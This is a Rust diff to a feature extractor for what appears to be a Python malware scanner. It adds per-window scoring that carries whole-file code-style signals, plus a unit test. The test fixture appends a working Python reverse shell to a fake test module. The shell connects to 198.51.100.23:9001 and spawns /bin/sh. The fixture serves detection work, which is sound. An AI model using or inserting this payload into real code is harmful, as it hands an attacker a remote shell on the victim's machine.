@@ -14,7 +14,7 @@ use crate::decode::{self, LayerKind};
 use crate::lexer::{Lexer, Tok};
 
 /// Version tag of the feature definition. Bump on any change that alters feature values.
-pub const FEATURE_SET_VERSION: &str = "ward-python-features/3";
+pub const FEATURE_SET_VERSION: &str = "ward-python-features/4";
 /// Number of bits of the hashed feature space.
 pub const HASH_BITS: u32 = 18;
 /// Size of the hashed feature space.
@@ -1852,6 +1852,22 @@ impl Extractor {
         out
     }
 
+    /// [`Extractor::windows`] with the file's context: each window carries the code-style
+    /// rates of the whole file (`whole` = the whole-file vector), so a 16 KiB slice of a test
+    /// module or a class-based library is still scored as part of one (the behaviour signals
+    /// stay the window's own).
+    pub fn windows_in_context(
+        &self,
+        bytes: &[u8],
+        whole: &FeatureVector,
+    ) -> Vec<(std::ops::Range<usize>, FeatureVector)> {
+        let mut w = self.windows(bytes);
+        for (_, fv) in &mut w {
+            with_file_context(fv, whole);
+        }
+        w
+    }
+
     /// Like [`Extractor::analyze`], but also records the readable names of the hashed features
     /// whose indices are in `want` (used to explain a score).
     pub fn analyze_named(&self, bytes: &[u8], want: &[u32]) -> Analysis {
@@ -2647,6 +2663,30 @@ fn memchr_sub(h: &[u8], n: &[u8]) -> bool {
     find_sub(h, n).is_some()
 }
 
+/// Dense signals that describe the file as a whole (code style) rather than a behaviour.
+const FILE_CONTEXT_SIGNALS: &[&str] =
+    &["s:def_rate", "s:self_rate", "s:test_rate", "s:indent_rate"];
+
+/// Replaces the file-context signals of a window's vector by those of the whole file.
+pub fn with_file_context(window: &mut FeatureVector, whole: &FeatureVector) {
+    for name in FILE_CONTEXT_SIGNALS {
+        let i = signal_index(name);
+        let v = whole.idx.binary_search(&i).map_or(0.0, |k| whole.val[k]);
+        match window.idx.binary_search(&i) {
+            Ok(k) if v != 0.0 => window.val[k] = v,
+            Ok(k) => {
+                window.idx.remove(k);
+                window.val.remove(k);
+            }
+            Err(k) if v != 0.0 => {
+                window.idx.insert(k, i);
+                window.val.insert(k, v);
+            }
+            Err(_) => {}
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -2654,6 +2694,35 @@ mod tests {
     fn has_signal(a: &Analysis, name: &str) -> bool {
         let i = (0..N_SIGNALS).find(|&i| signal_name(i) == name).unwrap() as u32;
         a.features.idx.contains(&i)
+    }
+
+    #[test]
+    fn windows_carry_the_file_context() {
+        let t = signal_index("s:test_rate");
+        let d = signal_index("s:def_rate");
+        let whole = FeatureVector {
+            idx: vec![t],
+            val: vec![2.5],
+        };
+        let mut w = FeatureVector {
+            idx: vec![d, t, N_SIGNALS as u32 + 7],
+            val: vec![1.0, 0.1, 1.0],
+        };
+        with_file_context(&mut w, &whole);
+        assert_eq!(w.idx, vec![t, N_SIGNALS as u32 + 7]);
+        assert_eq!(w.val, vec![2.5, 1.0]);
+        // A test module with a reverse shell appended: the window is scored, with test context.
+        let mut text = String::new();
+        while text.len() < 40_000 {
+            text.push_str("class TestStore(unittest.TestCase):\n    def test_get(self):\n        self.assertEqual(get(1), 1)\n\n");
+        }
+        text.push_str("import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.23',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n");
+        let ex = Extractor::new();
+        let f = ex.analyze(text.as_bytes()).features;
+        let ws = ex.windows_in_context(text.as_bytes(), &f);
+        assert!(!ws.is_empty());
+        let tv = |fv: &FeatureVector| fv.idx.binary_search(&t).map_or(0.0, |k| fv.val[k]);
+        assert!(ws.iter().all(|(_, w)| tv(w) == tv(&f)));
     }
 
     #[test]
